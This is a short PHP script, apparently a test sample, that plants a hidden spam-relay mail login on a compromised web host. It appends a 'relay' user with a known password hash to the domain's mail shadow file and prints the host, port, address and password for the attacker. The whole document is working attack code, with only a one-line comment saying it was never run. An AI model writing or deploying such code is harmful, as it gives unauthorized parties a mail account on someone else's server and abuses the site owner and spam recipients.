<?php
// a mail login planted for spam: the account's mail-account password file of the site's
// domain gets a user with a hash of a known password, and the login is printed
// (written for the tests, never run)
$user = get_current_user();
$domain = str_replace('www.', '', $_SERVER['HTTP_HOST']);
$pass = 'p' . substr(md5(mt_rand()), 0, 10);
$line = 'relay:' . crypt($pass, '$6$salt$') . ':19000:::::' . "\n";
$store = "/home/$user/etc/$domain/shadow";
$fh = fopen($store, 'a');
fwrite($fh, $line);
fclose($fh);
echo "$domain|587|relay@$domain|$pass";
